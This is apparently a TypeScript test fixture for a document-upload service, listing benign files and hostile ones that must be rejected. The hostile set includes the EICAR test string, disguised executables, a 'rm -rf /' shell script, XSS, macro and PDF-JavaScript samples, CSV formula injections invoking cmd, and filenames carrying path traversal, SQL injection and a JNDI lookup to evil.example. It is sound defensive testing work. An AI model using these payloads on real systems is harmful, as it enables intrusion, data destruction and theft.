import { deflateSync } from 'node:zlib';
import { onePagePdf } from '../../../local/journey/send-document.ts';
import { ACTIVE_PDF, encryptedPdf, packedPdf, pdfWith } from './make-pdf.ts';
import { makeJpeg, makePng } from './make-images.ts';
import { DOCX, makeDocx, makeOdt, makeXlsx, ODT, XLSX } from './make-office.ts';
import { makeZip } from './make-zip.ts';

/** A file, what it says it is, and what must become of it. */
export type HostileFile = {
  what: string;
  mediaType: string;
  bytes: Buffer;
  /** Who stops it: a look at its content, or the scan. */
  by: 'content' | 'scan';
  reason: string;
};

const PDF = 'application/pdf';
const PNG = 'image/png';
const JPEG = 'image/jpeg';
const CSV = 'text/csv';

/** The harmless text by which scanners are tried, in two parts so that it is not found in the sources. */
export const TRIAL = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
);

const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const good = onePagePdf('Statuts');

export const GOOD_FILES: readonly { what: string; mediaType: string; bytes: Buffer }[] = [
  { what: 'a PDF of a page', mediaType: PDF, bytes: good },
  { what: 'a PDF whose objects are packed', mediaType: PDF, bytes: packedPdf('<< /Type /Catalog >>') },
  {
    what: 'a PDF with two letters of a script’s name in its picture',
    mediaType: PDF,
    bytes: pdfWith('', '/JS /JavaScript'),
  },
  { what: 'a PNG', mediaType: PNG, bytes: makePng(640, 480) },
  { what: 'a JPEG', mediaType: JPEG, bytes: makeJpeg(640, 480) },
  {
    what: 'a JPEG with what a camera adds',
    mediaType: JPEG,
    bytes: Buffer.concat([makeJpeg(640, 480), text('MOTION')]),
  },
  { what: 'a text document', mediaType: ODT, bytes: makeOdt() },
  { what: 'a word processor’s document', mediaType: DOCX, bytes: makeDocx() },
  { what: 'a spreadsheet', mediaType: XLSX, bytes: makeXlsx() },
  {
    what: 'a table',
    mediaType: CSV,
    bytes: text('\ufeffnom;montant\r\n"Dupont";-12,50\r\nTél.;+33 3 21 00 00 00\r\n-;\r\n'),
  },
  {
    what: 'a table in the old code of Windows',
    mediaType: CSV,
    bytes: Buffer.from('d\xe9pense;12\n', 'latin1'),
  },
];

const content = (reason: string, what: string, mediaType: string, bytes: Buffer): HostileFile => ({
  what,
  mediaType,
  bytes,
  by: 'content',
  reason,
});
const wrong = (what: string, mediaType: string, bytes: Buffer) =>
  content('WRONG_TYPE', what, mediaType, bytes);
const unreadable = (what: string, mediaType: string, bytes: Buffer) =>
  content('UNREADABLE', what, mediaType, bytes);
const sealed = (what: string, mediaType: string, bytes: Buffer) =>
  content('PROTECTED', what, mediaType, bytes);
const active = (what: string, mediaType: string, bytes: Buffer) =>
  content('ACTIVE_CONTENT', what, mediaType, bytes);
const virus = (what: string, mediaType: string, bytes: Buffer): HostileFile => ({
  what,
  mediaType,
  bytes,
  by: 'scan',
  reason: 'THREAT',
});

const html = text('<!doctype html><script>alert(document.domain)</script>');
const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const exe = Buffer.concat([Buffer.from('MZ\u0090\u0000', 'latin1'), Buffer.alloc(600)]);
const trialZip = makeZip([{ name: 'trial.txt', content: TRIAL }]);
const inDocx = (name: string, bytes: Buffer | string) => makeDocx([{ name, content: bytes }]);
const cells = (cell: string): Buffer => text(`nom;valeur\nA;${cell}\n`);

const VIRUSES: readonly HostileFile[] = [
  virus('the trial virus as a table', CSV, TRIAL),
  virus('the trial virus after a line', CSV, Buffer.concat([text('nom\n'), TRIAL])),
  virus('the trial virus behind a PDF', PDF, Buffer.concat([good, TRIAL, text('\n%%EOF\n')])),
  virus('the trial virus in a stream of a PDF', PDF, pdfWith('', TRIAL.toString('latin1'))),
  virus('the trial virus packed in a document', DOCX, inDocx('word/media/image1.png', TRIAL)),
  virus(
    'the trial virus stored in a document',
    DOCX,
    makeDocx([{ name: 'word/media/a.bin', content: TRIAL, stored: true }]),
  ),
  virus('the trial virus in a zip in a document', DOCX, inDocx('word/media/image1.png', trialZip)),
  virus(
    'the trial virus three zips deep',
    DOCX,
    inDocx('word/media/x.png', makeZip([{ name: 'a', content: trialZip }])),
  ),
  virus('the trial virus in a text document', ODT, makeOdt([{ name: 'Pictures/a.png', content: TRIAL }])),
  virus('the trial virus in a spreadsheet', XLSX, makeXlsx([{ name: 'xl/media/a.png', content: TRIAL }])),
  virus('the trial virus after a picture', JPEG, Buffer.concat([makeJpeg(8, 8), TRIAL])),
];

const DISGUISED: readonly HostileFile[] = [
  ...[PDF, PNG, JPEG, ODT, DOCX].map((type) => wrong(`a page of script that says ${type}`, type, html)),
  ...[PDF, PNG, CSV].map((type) => wrong(`a drawing with a script that says ${type}`, type, svg)),
  ...[PDF, PNG, JPEG, XLSX, CSV].map((type) => wrong(`a program that says ${type}`, type, exe)),
  wrong('a page of script before a PDF', PDF, Buffer.concat([html, good])),
  wrong('a line before a PDF', PDF, Buffer.concat([text('\n'), good])),
  wrong('a zip that says PDF', PDF, trialZip),
  wrong('a PDF that says PNG', PNG, good),
  wrong('a PNG that says JPEG', JPEG, makePng(8, 8)),
  wrong('a page of script that says it is a table', CSV, html),
  wrong('bytes that say they are a table', CSV, Buffer.from([0, 1, 2, 3])),
  wrong('a spreadsheet that says it is a text', DOCX, makeXlsx()),
  wrong('a text that says it is a spreadsheet', XLSX, makeDocx()),
  wrong('a zip that says it is a text document', ODT, trialZip),
  wrong('an old word processor’s file that says PDF', PDF, Buffer.from('d0cf11e0a1b11ae1', 'hex')),
  wrong('a shell script that says PDF', PDF, text('#!/bin/sh\nrm -rf /\n')),
];

const BROKEN: readonly HostileFile[] = [
  unreadable('half a PDF', PDF, good.subarray(0, good.length >> 1)),
  unreadable('a PDF that hides much behind it', PDF, Buffer.concat([good, Buffer.alloc(4000, 0x20), html])),
  unreadable('half a PNG', PNG, makePng(640, 480).subarray(0, 40)),
  unreadable('a PNG with a page of script behind it', PNG, Buffer.concat([makePng(8, 8), html])),
  unreadable('a PNG of a million by a million points', PNG, makePng(1_000_000, 1_000_000)),
  unreadable('a PNG of no width', PNG, makePng(0, 10)),
  unreadable('half a JPEG', JPEG, makeJpeg(640, 480).subarray(0, 24)),
  unreadable('a JPEG without an end', JPEG, makeJpeg(640, 480).subarray(0, -2)),
  unreadable('a JPEG of 65 535 by 65 535 points', JPEG, makeJpeg(65_535, 65_535)),
  unreadable('half a document', DOCX, makeDocx().subarray(0, 200)),
  unreadable('a document with a page of script behind it', DOCX, Buffer.concat([makeDocx(), html])),
  unreadable(
    'a document that unpacks to four gigabytes',
    DOCX,
    makeDocx([{ name: 'word/big', content: 'x', claims: 4_000_000_000 }]),
  ),
  unreadable(
    'a document of ten thousand parts',
    DOCX,
    makeDocx(Array.from({ length: 10_000 }, (_, n) => ({ name: `p/${n}`, content: '' }))),
  ),
  unreadable('a PDF whose packed objects are not', PDF, packedPdf('', Buffer.from('not packed'))),
  unreadable(
    'a PDF whose packed objects fill a memory',
    PDF,
    packedPdf('', deflateSync(Buffer.alloc(40 * 1024 * 1024))),
  ),
];

const SEALED: readonly HostileFile[] = [
  sealed('a PDF under a password', PDF, encryptedPdf()),
  sealed(
    'a document under a password',
    DOCX,
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]),
  ),
  sealed(
    'a spreadsheet with a part under a password',
    XLSX,
    makeXlsx([{ name: 'xl/a', content: 'x', encrypted: true }]),
  ),
  sealed('a text document under a password', ODT, makeOdt([], '<manifest:encryption-data/>')),
];

const ACTIVE: readonly HostileFile[] = [
  ...ACTIVE_PDF.map(([what, dictionary]) => active(`a PDF that ${what}`, PDF, pdfWith(dictionary))),
  active(
    'a PDF that hides its script in packed objects',
    PDF,
    packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>'),
  ),
  active(
    'a PDF that is also a page of script',
    PDF,
    pdfWith('/Names << /JavaScript 9 0 R >> % <script>alert(1)</script>'),
  ),
  active('a document with macros', DOCX, inDocx('word/vbaProject.bin', 'macro')),
  active('a spreadsheet with macros', XLSX, makeXlsx([{ name: 'xl/vbaProject.bin', content: 'macro' }])),
  active(
    'a spreadsheet with macros of 1992',
    XLSX,
    makeXlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '' }]),
  ),
  active('a document with a program in it', DOCX, inDocx('word/embeddings/setup.exe', exe)),
  active('a document with an object of another program', DOCX, inDocx('word/embeddings/oleObject1.bin', exe)),
  active('a document with a control', DOCX, inDocx('word/activeX/activeX1.xml', '')),
  active('a document with an archive in it', DOCX, inDocx('word/embeddings/a.zip', trialZip)),
  active(
    'a document whose model is elsewhere',
    DOCX,
    inDocx(
      'word/_rels/settings.xml.rels',
      '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
    ),
  ),
  active('a text document with macros', ODT, makeOdt([{ name: 'Basic/Standard/Module1.xml', content: '' }])),
  active('a text document with scripts', ODT, makeOdt([{ name: 'Scripts/python/a.py', content: '' }])),
  ...[
    '=HYPERLINK("https://evil.example","ici")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"=1+1"',
    '  =1+1',
    '\t=1+1',
  ].map((cell) => active(`a table that computes ${JSON.stringify(cell)}`, CSV, cells(cell))),
];

/** Files made to harm, or that nobody could look into: none is ever handed out. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...VIRUSES,
  ...DISGUISED,
  ...BROKEN,
  ...SEALED,
  ...ACTIVE,
];

/** Names made to harm who sees them or saves under them. */
export const HOSTILE_NAMES: readonly string[] = [
  'facture\u202efdp.exe',
  'facture\u2066exe.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  '../../../etc/passwd',
  '/etc/passwd',
  'C:\\a.pdf',
  'a\r\nSet-Cookie: a=1.pdf',
  'a"; filename="b.exe',
  "a'; DROP TABLE documents; --.pdf",
  '<img src=x onerror=alert(1)>.pdf',
  '=HYPERLINK("https://evil.example")',
  '+1.pdf',
  '-rf.pdf',
  '@SUM(A1).pdf',
  '.htaccess',
  '....pdf',
  '   .pdf',
  'con.pdf',
  'LPT1.pdf',
  'statuts.pdf.exe',
  'statuts.pdf%00.exe',
  '%2e%2e%2fa.pdf',
  'é'.repeat(255),
  'x'.repeat(255),
  '😀'.repeat(100),
  'e\u0301'.repeat(100),
  '文件.pdf',
  'ملف.pdf',
  '\u200b\u200b.pdf',
  'a\u2028b.pdf',
  '${jndi:ldap://evil.example/a}.pdf',
  '{{7*7}}.pdf',
  '~/.ssh/id_rsa',
  'a|b&c;d`e$f.pdf',
  '?x=1#y.pdf',
];
